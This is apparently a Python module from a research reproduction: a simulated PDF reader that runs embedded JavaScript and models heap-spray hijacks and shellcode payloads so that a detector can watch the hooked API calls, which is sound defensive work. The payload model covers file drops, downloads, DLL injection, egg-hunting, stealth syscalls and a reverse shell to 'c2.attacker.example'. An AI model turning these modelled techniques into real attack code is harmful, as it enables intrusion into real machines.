"""The simulated PDF reader.

Single-threaded, exactly like the readers the paper observes: "during
the execution of Javascript, no other PDF objects in the same or
another document will be processed" (§III-D).  The reader owns one
Windows process; documents open into it, their trigger scripts run
through the JS engine with the Acrobat API bound, and infections play
out through the heap-spray / hijack / payload model — producing the
hooked-API event stream the back-end detector consumes.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Dict, List, Optional, Tuple
from urllib.parse import urlparse

from repro import obs as obs_mod
from repro.js.errors import JSError, ReaderCrash, ResourceLimitExceeded
from repro.js.interpreter import Host, Interpreter
from repro.js.values import JSArray, JSObject, UNDEFINED
from repro.pdf.document import PDFDocument
from repro.pdf.objects import PDFStream, PDFString
from repro.pdf.parser import PDFParseError
from repro.reader.acrobat import build_acrobat_environment
from repro.reader.exploits import ExploitRegistry, default_registry, looks_malformed
from repro.reader.payload import Payload, parse_payload
from repro.winapi.hooks import TrampolineDLL
from repro.winapi.network import LoopbackChannel
from repro.winapi.process import Process, System
from repro.winapi.syscalls import API, SyscallGateway

#: Render memory model: bytes charged per open document.
RENDER_BASE_BYTES = 4 * 1024 * 1024
RENDER_BYTES_PER_FILE_BYTE = 3.5

#: Fig. 8: the copy count at which the "memory optimisation" kicks in
#: for documents that trigger it, and the fraction of render memory kept.
MEMOPT_COPY_THRESHOLD = 15
MEMOPT_KEEP_FRACTION = 0.35

#: Virtual-time costs.
JS_BASE_COST_S = 0.0015          # entering the JS engine
JS_STEP_COST_S = 2.0e-8          # per interpreter step
SOAP_REQUEST_COST_S = 0.0465     # one synchronous SOAP round trip
RENDER_COST_PER_MB_S = 0.012     # rendering a document

#: Sprayed heap required for a control-flow hijack to land (§III-D cites
#: "usually more than 100 MB" sprays; smaller sprays miss and crash).
DEFAULT_HIJACK_THRESHOLD_BYTES = 64 * 1024 * 1024

_SPRAY_POOL_CAP = 48


class _ReaderJSHost(Host):
    """Wires JS string allocation into the reader's memory model."""

    def __init__(self, reader: "Reader", handle: "DocumentHandle") -> None:
        super().__init__()
        self.reader = reader
        self.handle = handle
        self._seen_large: set = set()

    def now_seconds(self) -> float:
        return self.reader.clock.now()

    def on_string_alloc(self, length: int) -> None:
        nbytes = length * 2
        self.allocated_bytes += nbytes
        handle = self.handle
        handle.js_heap_bytes += nbytes
        process = self.reader.current_process
        if process is not None and process.alive:
            process.alloc(handle.memory_tag("js"), nbytes)

    def on_large_string(self, value: str) -> None:
        handle = self.handle
        handle.sprayed_bytes += len(value) * 2
        # Spray loops re-materialise the same interned chunk thousands of
        # times (substr-copy idiom); dedupe by identity so the payload
        # scan stays O(distinct strings).  Pool entries stay referenced,
        # so ids cannot be recycled underneath us.
        marker = id(value)
        if marker in self._seen_large:
            return
        pool = handle.spray_pool
        if "[[PAYLOAD|" in value:
            self._seen_large.add(marker)
            pool.insert(0, value)
        elif len(pool) < _SPRAY_POOL_CAP:
            self._seen_large.add(marker)
            pool.append(value)


@dataclass
class TimerEntry:
    timer_id: int
    due: float
    code: str
    handle: "DocumentHandle"
    interval_s: float = 0.0
    cancelled: bool = False


class DocumentHandle:
    """One open document: JS world + infection state + Acrobat binding."""

    def __init__(self, reader: "Reader", doc_id: int, document: PDFDocument, name: str, size: int) -> None:
        self.reader = reader
        self.doc_id = doc_id
        self.document = document
        self.name = name
        self.size = size
        self.open = True
        self.crashed = False
        self.js_heap_bytes = 0
        self.sprayed_bytes = 0
        self.spray_pool: List[str] = []
        self.alerts: List[str] = []
        self.external_launches: List[Tuple[str, str]] = []
        self.script_errors: List[str] = []
        self.runtime_scripts: List[Tuple[str, str, str]] = []  # (kind, name, code)
        self.soap_messages: List[Tuple[str, Any]] = []
        self.interpreter: Optional[Interpreter] = None
        self.doc_object: Optional[JSObject] = None
        self.executed_scripts = 0

    def memory_tag(self, kind: str) -> str:
        return f"doc{self.doc_id}:{kind}"

    # -- DocBinding protocol (called from the Acrobat API layer) ---------

    @property
    def reader_version(self) -> str:
        return self.reader.version

    def alert(self, message: str) -> None:
        self.alerts.append(message)

    def vulnerable_api_called(self, api_path: str, args: List[Any]) -> None:
        self.reader.on_vulnerable_api(self, api_path, args)

    def soap_request(self, url: str, request: Any) -> Any:
        return self.reader.on_soap_request(self, url, request)

    def net_connect_attempt(self, host: str, port: int) -> None:
        self.reader.syscall(API.CONNECT, host=host, port=port)

    def set_timeout(self, code: str, milliseconds: float, interval: bool) -> int:
        return self.reader.register_timer(self, code, milliseconds, interval)

    def clear_timeout(self, timer_id: float) -> None:
        self.reader.cancel_timer(timer_id)

    def add_runtime_script(self, kind: str, name: str, code: str) -> None:
        self.runtime_scripts.append((kind, name, code))

    def export_data_object(self, name: str, launch: int) -> None:
        self.reader.on_export_data_object(self, name, launch)

    def launch_external(self, application: str, argument: str) -> None:
        self.external_launches.append((application, argument))

    def doc_info(self) -> Dict[str, str]:
        info = self.document.info
        out: Dict[str, str] = {}
        for key, value in info.items():
            resolved = self.document.resolve(value)
            if isinstance(resolved, PDFString):
                out[str(key)] = resolved.to_text()
            else:
                out[str(key)] = to_string_safe(resolved)
        return out

    def doc_metadata(self) -> Dict[str, Any]:
        return {
            "numPages": float(self.document.page_count),
            "path": f"/C/Docs/{self.name}",
            "documentFileName": self.name,
            "title": self.doc_info().get("Title", ""),
        }


def to_string_safe(value: Any) -> str:
    try:
        return str(value)
    except Exception:  # noqa: BLE001
        return ""


@dataclass
class OpenOutcome:
    """What happened when a document was opened (and pumped)."""

    handle: DocumentHandle
    crashed: bool = False
    crash_reason: Optional[str] = None
    parse_error: Optional[str] = None

    @property
    def ok(self) -> bool:
        return not self.crashed and self.parse_error is None


class Reader:
    """Simulated Adobe Acrobat 8.0 / 9.0."""

    def __init__(
        self,
        system: Optional[System] = None,
        version: str = "9.0",
        registry: Optional[ExploitRegistry] = None,
        hijack_threshold_bytes: int = DEFAULT_HIJACK_THRESHOLD_BYTES,
        trampoline: Optional[TrampolineDLL] = None,
        detector_channel: Optional[LoopbackChannel] = None,
        max_js_steps: int = 20_000_000,
        obs: Optional[obs_mod.Observability] = None,
    ) -> None:
        self.system = system if system is not None else System()
        self.version = version
        self.registry = registry if registry is not None else default_registry()
        self.hijack_threshold_bytes = hijack_threshold_bytes
        self.trampoline = trampoline
        self.detector_channel = detector_channel
        self.max_js_steps = max_js_steps
        self.obs = obs if obs is not None else obs_mod.get_default()
        self.gateway = SyscallGateway(self.system)
        self._process: Optional[Process] = None
        self.handles: List[DocumentHandle] = []
        self.timers: List[TimerEntry] = []
        self._next_doc_id = 1
        self._next_timer_id = 1
        # A victim process for DLL injection to land on.
        if not any(p.name == "explorer.exe" for p in self.system.processes.values()):
            self.system.spawn("explorer.exe", base_memory=30 * 1024 * 1024)

    # -- process lifecycle -------------------------------------------------

    def process(self) -> Process:
        """The reader's OS process, spawning (or respawning) it if needed.

        This is the public accessor the pipeline uses to attach the
        runtime monitor; :attr:`current_process` reads the last process
        without side effects (it may be dead or ``None``).
        """
        if self._process is None or not self._process.alive:
            self._process = self.system.spawn_reader()
            if self.trampoline is not None:
                self.trampoline.on_process_start(self._process, self.detector_channel)
        return self._process

    @property
    def current_process(self) -> Optional[Process]:
        """The last spawned process, without respawning a dead one."""
        return self._process

    def syscall(self, api: str, via_import_table: bool = True, **args: Any) -> Any:
        process = self.process()
        return self.gateway.invoke(
            process, api, via_import_table=via_import_table, **args
        )

    @property
    def clock(self):
        return self.system.clock

    def memory_counters(self):
        return self.process().memory_counters()

    # -- opening documents ----------------------------------------------------

    def open(
        self,
        data: bytes,
        name: str = "document.pdf",
        document: Optional[PDFDocument] = None,
    ) -> OpenOutcome:
        """Open a document: parse, render, and fire its open triggers.

        ``document``, when given, is ``data`` already parsed (the scan
        pipeline hands over the document its front end just rewrote and
        serialised to ``data``): the reader then does not parse ``data``
        again, and uses it only to size the render memory.
        """
        with self.obs.tracer.span("reader.open", document=name, bytes=len(data)) as sp:
            virtual_start = self.clock.now()
            try:
                outcome = self._open_inner(data, name, document)
            finally:
                sp.set_tag("virtual_s", self.clock.now() - virtual_start)
            sp.set_tag("crashed", outcome.crashed)
            return outcome

    def _open_inner(
        self, data: bytes, name: str, document: Optional[PDFDocument]
    ) -> OpenOutcome:
        process = self.process()
        if document is None:
            try:
                document = PDFDocument.from_bytes(data)
            except PDFParseError as exc:
                dummy = DocumentHandle(self, self._next_doc_id, PDFDocument(), name, len(data))
                self._next_doc_id += 1
                return OpenOutcome(handle=dummy, parse_error=str(exc))

        handle = DocumentHandle(self, self._next_doc_id, document, name, len(data))
        self._next_doc_id += 1
        self.handles.append(handle)

        render_bytes = int(RENDER_BASE_BYTES + RENDER_BYTES_PER_FILE_BYTE * len(data))
        process.alloc(handle.memory_tag("render"), render_bytes)
        self.clock.advance(RENDER_COST_PER_MB_S * render_bytes / (1024 * 1024))
        self._maybe_memory_optimize(handle)

        host = _ReaderJSHost(self, handle)
        # Imported on first open, so a process whose scans triage
        # decides never loads the compiler.
        from repro.js.vm import BytecodeInterpreter

        interpreter = BytecodeInterpreter(host=host, max_steps=self.max_js_steps)
        handle.interpreter = interpreter
        handle.doc_object = build_acrobat_environment(interpreter, handle)

        try:
            for trigger, code in self._open_scripts(handle):
                self._execute_js(handle, code, trigger)
            self._render_embedded_content(handle)
        except ReaderCrash as crash:
            self._on_crash(str(crash))
            return OpenOutcome(handle=handle, crashed=True, crash_reason=crash.reason)
        return OpenOutcome(handle=handle)

    def _open_scripts(self, handle: DocumentHandle) -> List[Tuple[str, str]]:
        """Scripts to run at open, in Acrobat order: document-level
        (Names tree) first, then /OpenAction, then page-open /AA."""
        names: List[Tuple[str, str]] = []
        open_actions: List[Tuple[str, str]] = []
        page_open: List[Tuple[str, str]] = []
        for action in handle.document.iter_javascript_actions():
            code = handle.document.get_javascript_code(action)
            if not code.strip():
                continue
            if action.trigger == "Names":
                names.append((f"Names:{action.name}", code))
            elif action.trigger == "OpenAction":
                open_actions.append(("OpenAction", code))
            elif action.trigger.startswith("AA:Page") and action.trigger.endswith(":O"):
                page_open.append((action.trigger, code))
        return names + open_actions + page_open

    def _execute_js(self, handle: DocumentHandle, code: str, label: str) -> None:
        interpreter = handle.interpreter
        assert interpreter is not None
        start_steps = interpreter.steps
        handle.executed_scripts += 1
        # One span per script: the paper's per-script runtime cost.
        with self.obs.tracer.span("reader.script", label=label) as sp:
            try:
                interpreter.run(code, this=handle.doc_object)
            except ReaderCrash:
                raise
            except ResourceLimitExceeded as exc:
                handle.script_errors.append(f"{label}: {exc}")
            except JSError as exc:
                handle.script_errors.append(f"{label}: {exc}")
            finally:
                executed = interpreter.steps - start_steps
                sp.set_tag("steps", executed)
                self.clock.advance(JS_BASE_COST_S + JS_STEP_COST_S * executed)

    def _maybe_memory_optimize(self, new_handle: DocumentHandle) -> None:
        """Fig. 8's anomaly: one document triggered an internal memory
        optimisation at the 15th simultaneously-open copy."""
        title = new_handle.doc_info().get("Title", "")
        if "MEMOPT" not in title:
            return
        same = [
            h
            for h in self.handles
            if h.open and h.doc_info().get("Title", "") == title
        ]
        if len(same) == MEMOPT_COPY_THRESHOLD and self._process is not None:
            for h in same[:-1]:
                tag = h.memory_tag("render")
                current = self._process._allocations.get(tag, 0)
                self._process.set_bucket(tag, int(current * MEMOPT_KEEP_FRACTION))

    # -- embedded (non-JS) exploit content ---------------------------------------

    def _render_embedded_content(self, handle: DocumentHandle) -> None:
        """Process embedded Flash/U3D/TIFF/JBIG2/font content (out-JS)."""
        for entry in handle.document.store:
            value = entry.value
            if not isinstance(value, PDFStream):
                continue
            sim = value.dictionary.get("SimCVE")
            if sim is None:
                continue
            cve = (
                sim.to_text() if isinstance(sim, PDFString) else str(sim)
            )
            spec = self.registry.by_cve.get(cve)
            if spec is None or not spec.affects(self.version):
                continue
            self._attempt_hijack(handle, origin=f"render:{spec.entry}")

    # -- exploitation --------------------------------------------------------------

    def on_vulnerable_api(self, handle: DocumentHandle, api_path: str, args: List[Any]) -> None:
        spec = self.registry.for_js_api(api_path)
        if spec is None or not spec.affects(self.version):
            return  # patched / unaffected version: call behaves normally
        if not looks_malformed(args):
            return  # benign use of the same API
        self._attempt_hijack(handle, origin=f"js:{api_path}")

    def _attempt_hijack(self, handle: DocumentHandle, origin: str) -> None:
        """The control-flow hijack lands on the sprayed heap — or not."""
        if handle.sprayed_bytes < self.hijack_threshold_bytes:
            raise ReaderCrash(
                f"{origin}: hijacked EIP hit unmapped memory "
                f"(sprayed {handle.sprayed_bytes >> 20} MB)",
                document=handle.name,
            )
        payload = parse_payload(handle.spray_pool)
        if payload is None:
            raise ReaderCrash(f"{origin}: landed in sled but found no payload", handle.name)
        if payload.crashes_on_landing:
            raise ReaderCrash(f"{origin}: payload jump misaligned", handle.name)
        self._execute_payload(handle, payload)

    def _execute_payload(self, handle: DocumentHandle, payload: Payload) -> None:
        """Run shellcode directives through the (hooked) syscall layer."""
        from repro.reader.payload import (
            OP_DOWNLOAD,
            OP_DROP,
            OP_EGGHUNT,
            OP_EXEC,
            OP_INJECT,
            OP_SHELL,
            OP_STEALTH,
        )

        for op in payload.ops:
            if op.verb == OP_DROP:
                self.syscall(
                    API.NT_CREATE_FILE,
                    path=op.argument,
                    data=b"MZ\x90\x00simulated-malware",
                )
            elif op.verb == OP_DOWNLOAD:
                url, _, path = op.argument.partition(">")
                parsed = urlparse(url if "//" in url else f"http://{url}")
                self.syscall(
                    API.CONNECT, host=parsed.hostname or "unknown", port=parsed.port or 80
                )
                self.syscall(
                    API.URL_DOWNLOAD_TO_FILE,
                    path=path or "C:\\Temp\\download.exe",
                    data=b"MZ\x90\x00downloaded-malware",
                    url=url,
                )
            elif op.verb == OP_EXEC:
                self.syscall(
                    API.NT_CREATE_USER_PROCESS,
                    image=op.argument,
                    command_line=op.argument,
                )
            elif op.verb == OP_INJECT:
                target = self._injection_target()
                if target is not None:
                    self.syscall(
                        API.CREATE_REMOTE_THREAD, target_pid=target.pid, dll=op.argument
                    )
            elif op.verb == OP_EGGHUNT:
                self._egg_hunt(handle, op.argument)
            elif op.verb == OP_SHELL:
                port = int(op.argument or "4444")
                self.syscall(API.LISTEN, port=port)
                self.syscall(API.CONNECT, host="c2.attacker.example", port=port)
            elif op.verb == OP_STEALTH:
                # Direct kernel calls: raw syscall stubs resolved by the
                # shellcode itself, never through the import table.
                self.syscall(
                    API.NT_CREATE_FILE,
                    via_import_table=False,
                    path=op.argument,
                    data=b"MZ\x90\x00stealth-malware",
                )
                self.syscall(
                    API.NT_CREATE_USER_PROCESS,
                    via_import_table=False,
                    image=op.argument,
                    command_line=op.argument,
                )

    def _injection_target(self) -> Optional[Process]:
        reader_pid = self._process.pid if self._process else -1
        for process in self.system.running():
            if process.pid != reader_pid:
                return process
        return None

    def _egg_hunt(self, handle: DocumentHandle, drop_path: str) -> None:
        """Safe virtual-address-space search, then drop the found egg."""
        probes = (
            API.IS_BAD_READ_PTR,
            API.NT_ACCESS_CHECK_AND_AUDIT_ALARM,
            API.NT_DISPLAY_STRING,
            API.NT_ADD_ATOM,
            API.IS_BAD_READ_PTR,
            API.NT_ACCESS_CHECK_AND_AUDIT_ALARM,
        )
        for index, api in enumerate(probes):
            self.syscall(api, address=0x0401_0000 + index * 0x1000)
        egg = self._embedded_egg(handle) or b"MZ\x90\x00egg-malware"
        self.syscall(API.NT_CREATE_FILE, path=drop_path, data=egg)

    @staticmethod
    def _embedded_egg(handle: DocumentHandle) -> Optional[bytes]:
        for entry in handle.document.store:
            value = entry.value
            if isinstance(value, PDFStream):
                if str(value.dictionary.get("Type", "")) == "EmbeddedFile":
                    try:
                        return value.decoded_data()
                    except Exception:  # noqa: BLE001 - corrupt stream, skip
                        return None
        return None

    @staticmethod
    def _embedded_file_by_name(handle: DocumentHandle, name: str) -> Optional[bytes]:
        """Look up an attachment through the /EmbeddedFiles name tree."""
        document = handle.document
        catalog = document.catalog
        names_dict = document.resolve_dict(catalog.get("Names"))
        ef_tree = document.resolve_dict(names_dict.get("EmbeddedFiles"))
        entries = ef_tree.get("Names")
        if not isinstance(entries, list):
            return None
        for i in range(0, len(entries) - 1, 2):
            label = document.resolve(entries[i])
            if isinstance(label, PDFString) and label.to_text() == name:
                spec = document.resolve_dict(entries[i + 1])
                ef = document.resolve_dict(spec.get("EF"))
                stream = document.resolve(ef.get("F"))
                if isinstance(stream, PDFStream):
                    try:
                        return stream.decoded_data()
                    except Exception:  # noqa: BLE001
                        return None
        return None

    # -- SOAP / export / timers --------------------------------------------------

    def on_soap_request(self, handle: DocumentHandle, url: str, request: Any) -> Any:
        parsed = urlparse(url if "//" in url else f"http://{url}")
        host = parsed.hostname or "unknown"
        port = parsed.port or 80
        self.syscall(API.CONNECT, host=host, port=port)
        self.clock.advance(SOAP_REQUEST_COST_S)
        payload = js_to_python(request)
        handle.soap_messages.append((url, payload))
        if self.system.network.has_rpc(host, port):
            response = self.system.network.call_rpc(host, port, payload)
            return python_to_js(response)
        return python_to_js({"status": "unreachable"})

    def on_export_data_object(self, handle: DocumentHandle, name: str, launch: int) -> None:
        data = (
            self._embedded_file_by_name(handle, name)
            or self._embedded_egg(handle)
            or b"exported-attachment"
        )
        path = f"C:\\Temp\\{name}"
        self.syscall(API.NT_CREATE_FILE, path=path, data=data)
        if launch < 1:
            return
        if name.lower().endswith(".pdf"):
            # Acrobat opens exported PDF attachments in the reader itself
            # (the embedded-PDF vector the paper's §VI discusses).
            self.open(data, name)
        else:
            self.syscall(API.NT_CREATE_USER_PROCESS, image=path, command_line=path)

    def register_timer(
        self, handle: DocumentHandle, code: str, milliseconds: float, interval: bool
    ) -> int:
        timer_id = self._next_timer_id
        self._next_timer_id += 1
        delay_s = max(0.0, milliseconds / 1000.0)
        self.timers.append(
            TimerEntry(
                timer_id=timer_id,
                due=self.clock.now() + delay_s,
                code=code,
                handle=handle,
                interval_s=delay_s if interval else 0.0,
            )
        )
        return timer_id

    def cancel_timer(self, timer_id: float) -> None:
        for timer in self.timers:
            if timer.timer_id == timer_id:
                timer.cancelled = True

    def pump(self, seconds: float = 10.0, max_fires: int = 100) -> int:
        """Advance virtual time, firing due timers. Returns fire count."""
        with self.obs.tracer.span("reader.pump", seconds=seconds) as sp:
            virtual_start = self.clock.now()
            try:
                fired = self._pump_inner(seconds, max_fires)
            finally:
                sp.set_tag("virtual_s", self.clock.now() - virtual_start)
            sp.set_tag("fired", fired)
            return fired

    def _pump_inner(self, seconds: float, max_fires: int) -> int:
        deadline = self.clock.now() + seconds
        fired = 0
        while fired < max_fires:
            pending = [
                t
                for t in self.timers
                if not t.cancelled and t.handle.open and t.due <= deadline
            ]
            if not pending:
                break
            timer = min(pending, key=lambda t: t.due)
            if timer.due > self.clock.now():
                self.clock.advance(timer.due - self.clock.now())
            if timer.interval_s > 0:
                timer.due = self.clock.now() + timer.interval_s
            else:
                timer.cancelled = True
            fired += 1
            try:
                self._execute_js(timer.handle, timer.code, label=f"timer{timer.timer_id}")
            except ReaderCrash as crash:
                self._on_crash(str(crash))
                break
        if self.clock.now() < deadline:
            self.clock.advance(deadline - self.clock.now())
        return fired

    # -- events / close ---------------------------------------------------------------

    def fire_event(self, handle: DocumentHandle, trigger: str) -> int:
        """Fire runtime-added scripts matching ``trigger``.

        Used for close/save/print/page events (Table IV).  Returns how
        many scripts ran.
        """
        count = 0
        for kind, _name, code in list(handle.runtime_scripts):
            matches = (
                kind == f"setAction:{trigger}"
                or (trigger == "Open" and kind == "addScript")
                or kind.startswith(f"setPageAction:") and kind.endswith(f":{trigger}")
                or (trigger == "bookmark" and kind == "bookmark.setAction")
            )
            if not matches:
                continue
            count += 1
            try:
                self._execute_js(handle, code, label=kind)
            except ReaderCrash as crash:
                self._on_crash(str(crash))
                break
        return count

    def close(self, handle: DocumentHandle) -> None:
        if not handle.open:
            return
        with self.obs.tracer.span("reader.close", document=handle.name):
            try:
                self.fire_event(handle, "WillClose")
            finally:
                handle.open = False
                if self._process is not None:
                    self._process.free(handle.memory_tag("render"))
                    self._process.free(handle.memory_tag("js"))

    def close_all(self) -> None:
        for handle in list(self.handles):
            self.close(handle)
        if self._process is not None and self._process.alive:
            self._process.exit()

    def _on_crash(self, reason: str) -> None:
        if self._process is not None:
            self._process.crash(reason)
        for handle in self.handles:
            if handle.open:
                handle.open = False
                handle.crashed = True

    @property
    def open_documents(self) -> List[DocumentHandle]:
        return [h for h in self.handles if h.open]


# ---------------------------------------------------------------------------
# JS <-> Python value bridging for SOAP bodies


def js_to_python(value: Any) -> Any:
    if isinstance(value, JSArray):
        return [js_to_python(v) for v in value.elements]
    if isinstance(value, JSObject):
        return {k: js_to_python(v) for k, v in value.properties.items()}
    if value is UNDEFINED:
        return None
    if isinstance(value, float) and value.is_integer():
        return value
    return value


def python_to_js(value: Any) -> Any:
    if isinstance(value, dict):
        obj = JSObject()
        for key, item in value.items():
            obj.set(str(key), python_to_js(item))
        return obj
    if isinstance(value, (list, tuple)):
        return JSArray([python_to_js(v) for v in value])
    if isinstance(value, bool):
        return value
    if isinstance(value, (int, float)):
        return float(value)
    if value is None:
        return UNDEFINED
    return value
